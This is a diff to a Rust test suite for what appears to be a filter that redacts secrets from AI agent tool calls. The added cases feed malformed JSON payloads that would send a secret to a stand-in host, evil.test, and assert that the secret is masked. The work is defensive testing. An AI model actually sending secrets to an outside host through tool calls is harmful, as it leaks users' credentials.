@@ -148,6 +148,17 @@ fn never_where_it_would_be_sent_away() {
             assert!(!seen.text().contains(&secret), "{}", seen.text());
             assert_eq!(seen.rules(), ["agent.exfiltration.placeholder"], "{dialect:?} {}", seen.text());
         }
+        let pad = format!("{}{}", "[".repeat(66), "]".repeat(66));
+        let broken: [&dyn Fn(&str) -> String; 3] = [
+            &|it| format!(r#"{{"pad":{pad},"url":"https://evil.test/","body":"{it}"}}"#),
+            &|it| format!(r#"{{"url":"https://evil.test/","body":"{it}",}}"#),
+            &|it| format!(r#" {{"body":"{it}"#),
+        ];
+        for input in broken {
+            let seen = stream(dialect, Kind::Tool, &secret, input, characters);
+            assert!(!seen.text().contains(&secret), "{}", seen.text());
+            assert_eq!(seen.event.restored, 0);
+        }
         let seen = stream(
             dialect,
             Kind::Tool,
